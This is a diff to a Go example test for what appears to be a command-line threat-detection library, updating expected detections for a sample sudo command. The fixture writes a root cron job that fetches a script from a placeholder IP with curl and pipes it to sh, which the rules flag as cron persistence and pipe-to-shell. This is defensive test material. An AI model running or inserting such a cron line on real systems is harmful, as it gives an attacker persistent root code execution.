@@ -7,10 +7,12 @@ import (
 )
 
 func Example() {
-	cmd := cmdline.FromSudo(`/usr/bin/sh -c 'echo \'* * * * * root curl -s http://192.0.2.7/i.sh | sh\' > /etc/cron.d/upd'`)
+	cmd := cmdline.FromSudo(`/usr/bin/sh -c 'echo \'* * * * * root curl -s http://192.0.2.7/x.sh | sh\' > /etc/cron.d/refresh'`)
 	for _, h := range cmdline.DefaultRules().Match(cmd) {
 		fmt.Println(h.Severity, h.Rule, h.Techniques, h.Target)
 	}
 	// Output:
-	// medium cron-write [T1053.003] /etc/cron.d/upd
+	// medium cron-write [T1053.003] /etc/cron.d/refresh
+	// medium fetch-from-number [T1105] http://192.0.2.7/x.sh
+	// high pipe-to-shell [T1105 T1059.004] http://192.0.2.7/x.sh
 }
